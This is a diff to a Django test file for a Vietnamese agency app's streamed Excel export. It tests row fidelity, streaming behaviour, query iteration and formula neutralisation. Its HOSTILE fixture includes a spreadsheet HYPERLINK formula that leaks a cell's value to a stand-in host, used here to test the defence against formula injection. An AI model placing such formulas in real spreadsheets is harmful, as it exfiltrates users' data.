@@ -8,7 +8,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from cndp.core.excel import build_workbook, neutralise_formulas, workbook_response
+from cndp.core.excel import WIDTH_SAMPLE_ROWS, build_workbook, neutralise_formulas, workbook_response
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
@@ -83,3 +83,101 @@ def test_the_project_member_and_synthesis_exports_hold_no_formula(demo, client_f
         cells = _cells(response.content)
         assert not [c.coordinate for c in cells if c.data_type == "f"], url
         assert text in [c.value for c in cells], url
+
+
+def _streamed(*args, **kwargs) -> bytes:
+    from cndp.core.excel import workbook_chunks
+
+    return b"".join(workbook_chunks(*args, **kwargs))
+
+
+def test_a_streamed_sheet_is_the_sheet_built_in_memory():
+    import datetime
+
+    header = ["Tên", "Số", "Ngày"]
+    rows = [[f"Đề án {i}", i * 1000, datetime.date(2026, 1, 1 + i % 28)] for i in range(1200)]
+    rows[7][0] = None
+    built = io.BytesIO()
+    build_workbook("Đề án khuyến công", header, rows, "Toàn bộ danh sách").save(built)
+    old = load_workbook(io.BytesIO(built.getvalue())).active
+    new = load_workbook(
+        io.BytesIO(_streamed("Đề án khuyến công", header, iter(rows), "Toàn bộ danh sách"))
+    ).active
+    assert list(new.iter_rows(values_only=True)) == list(old.iter_rows(values_only=True))
+    assert new.title == old.title
+    assert new.freeze_panes == old.freeze_panes == "A4"
+    assert new.auto_filter.ref == old.auto_filter.ref == "A3:C1203"
+    assert new["A1"].font.b and new["A1"].font.sz == 14 and new["A2"].font.i
+    assert [c.font.b for c in new[3]] == [True] * 3
+    assert new["B3"].fill.fgColor.rgb == old["B3"].fill.fgColor.rgb
+    assert new["C4"].is_date and new["C4"].number_format == old["C4"].number_format
+    sampled = build_workbook("x", header, rows[:WIDTH_SAMPLE_ROWS]).active  # widths: of the first rows
+    for letter in "ABC":
+        assert new.column_dimensions[letter].width == sampled.column_dimensions[letter].width
+
+
+def test_a_streamed_sheet_neutralises_formulas_in_every_chunk():
+    rows = [[text, -5] for text in HOSTILE] * 3 + [["Bình thường", 1.5]]
+    content = _streamed("Danh sách", ["=Tên", "Số"], rows, "-lọc", chunk_rows=2)
+    cells = _cells(content)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    hostile = [
+        c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
+    ]
+    assert len(hostile) == 3 * len(HOSTILE) + 2  # the rows, the header's "=Tên" and the subtitle
+    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
+    numbers = [c.value for c in cells if c.column == 2 and c.row > 3]
+    assert numbers == [-5] * (3 * len(HOSTILE)) + [1.5]
+
+
+def test_a_streamed_sheet_sends_its_first_bytes_before_the_rows_are_read():
+    from cndp.core.excel import workbook_chunks
+
+    read = []
+
+    def rows():
+        for i in range(5000):
+            read.append(i)
+            yield [f"Dòng {i}", i]
+
+    chunks = workbook_chunks("Danh sách", ["Tên", "Số"], rows(), chunk_rows=500)
+    first = next(chunks)
+    assert first.startswith(b"PK")  # a zip's local file header: the client has its first bytes
+    assert len(read) < 1000  # the width sample (500) and the first row: not the 5,000
+    rest = b"".join(chunks)
+    assert len(read) == 5000
+    sheet = load_workbook(io.BytesIO(first + rest)).active
+    assert sheet.max_row == 5003 and sheet["A5003"].value == "Dòng 4999"
+
+
+@pytest.mark.django_db
+def test_the_list_export_is_streamed_from_a_query_iterator(demo, client_for, django_assert_max_num_queries):
+    """The project list's export: a streaming response, the rows of the table's export values (same
+    columns, same filter), read with `.iterator()` (a constant number of queries)."""
+    from django.db.models.query import QuerySet
+
+    from cndp.extension.models import Project
+
+    client = client_for("agency_officer")
+    query = {"plan_year": 2025, "export": "xlsx"}
+    iterated = []
+    real = QuerySet.iterator
+
+    def spying(self, *args, **kwargs):
+        iterated.append((self.model, kwargs.get("chunk_size")))
+        return real(self, *args, **kwargs)
+
+    from unittest import mock
+
+    with mock.patch.object(QuerySet, "iterator", spying), django_assert_max_num_queries(25):
+        response = client.get(reverse("extension:project_list"), query)
+        assert response.status_code == 200 and response.streaming
+        content = b"".join(response.streaming_content)
+    assert (Project, 2000) in iterated
+    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+    expected = Project.objects.filter(plan_year=2025).count()
+    assert expected > 3
+    assert rows[2][:3] == ("Mã đề án", "Tên đề án", "Năm")
+    assert len(rows) == 3 + expected
+    assert {row[2] for row in rows[3:]} == {2025}
+    assert f"{expected} bản ghi" in rows[1][0]
